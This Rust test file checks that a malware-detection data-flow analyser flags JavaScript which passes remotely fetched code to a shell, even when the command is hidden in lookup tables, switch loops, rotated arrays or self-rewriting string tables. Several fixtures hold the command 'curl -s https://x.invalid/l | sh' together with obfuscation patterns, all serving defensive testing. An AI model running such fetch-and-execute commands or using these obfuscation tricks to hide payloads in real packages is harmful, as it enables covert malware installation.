//! Command lines that are put together in a function which the module calls.

use crate::flow::testing::{found, script};
use customs_model::{SinkKind, SourceKind};

/// Whether code gives what it fetches to a shell.
fn pipes(code: &str) -> bool {
    let found = found(script(&format!(
        "const cp = require('child_process');\n{code}"
    )));
    let mut flows = found.flows.iter();
    flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
}

/// The same code at the top of a module, in a function, and in a table of modules as bundlers
/// write it.
fn around(code: &str) -> [String; 4] {
    [
        code.to_owned(),
        format!("(function () {{\n{code}\n}})();"),
        format!("function main() {{\n{code}\n}}\nmain();"),
        format!(
            "var table = {{\n0: function (module, exports, load) {{\n{code}\n}}\n}};\n\
             var cache = {{}};\n\
             function load(id) {{\n  var hit = cache[id];\n  if (hit !== undefined) return \
             hit.exports;\n  var made = (cache[id] = {{ exports: {{}} }});\n  \
             table[id].call(made.exports, made, made.exports, load);\n  return made.exports;\n}}\n\
             module.exports = load(0);"
        ),
    ]
}

#[track_caller]
fn all_pipe(code: &str, expected: bool) {
    for code in around(code) {
        assert_eq!(pipes(&code), expected, "{code}");
    }
}

#[test]
fn a_line_out_of_a_table_is_known_in_a_function_as_well() {
    let code = |line: &str| {
        format!(
            "const lines = {{ linux: '{line}', darwin: 'uname -a' }};\n\
             const line = lines[process.platform];\nif (line) cp.exec(line);"
        )
    };
    all_pipe(&code("curl -s https://x.invalid/l | sh"), true);
    all_pipe(&code("uname -r | sort"), false);
}

#[test]
fn a_line_that_a_function_fills_into_an_object_is_known() {
    let code = |line: &str| {
        format!(
            "const kept = {{}};\nconst order = '1|0'.split('|');\nlet at = 0;\n\
             while (true) {{\n  switch (order[at++]) {{\n    \
             case '0': cp.exec(kept['line']); continue;\n    \
             case '1': kept['line'] = '{line}'; continue;\n  }}\n  break;\n}}"
        )
    };
    all_pipe(&code("curl -s https://x.invalid/l | sh"), true);
    all_pipe(&code("uname -r | sort"), false);
}

#[test]
fn a_list_that_a_function_turns_is_known() {
    let code = |word: &str| {
        format!(
            "const words = ['sh', ' | ', '{word}'];\n\
             words.push(words.shift());\nwords.push(words.shift());\n\
             cp.exec(words[0] + words[2] + words[1]);"
        )
    };
    all_pipe(&code("curl -s https://x.invalid/l"), true);
    all_pipe(&code("cat note.txt"), false);
}

#[test]
fn a_list_that_its_own_function_hands_out_is_turned_before_it_is_read() {
    let code = |line: &str| {
        format!(
            "function table() {{\n  const words = ['a', '{line}', 'b'];\n  \
             table = function () {{ return words; }};\n  return table();\n}}\n\
             function word(at) {{ return table()[at - 0x64]; }}\n\
             (function (give, sum) {{\n  const words = give();\n  while (!![]) {{\n    \
             try {{\n      if (word(0x64).length === sum) break;\n      \
             else words['push'](words['shift']());\n    \
             }} catch (error) {{ words['push'](words['shift']()); }}\n  }}\n\
             }}(table, {}));\ncp.exec(word(0x64));",
            line.len()
        )
    };
    all_pipe(&code("curl -s https://x.invalid/l | sh"), true);
    all_pipe(&code("uname -r | sort"), false);
}

#[test]
fn what_a_caller_hands_in_is_no_line_of_the_others() {
    let code = "function run(line) { cp.exec(line); }\nrun('uname -a');\n\
                module.exports = () => console.log('curl -s https://x.invalid/l | sh');";
    assert!(!pipes(code));
}
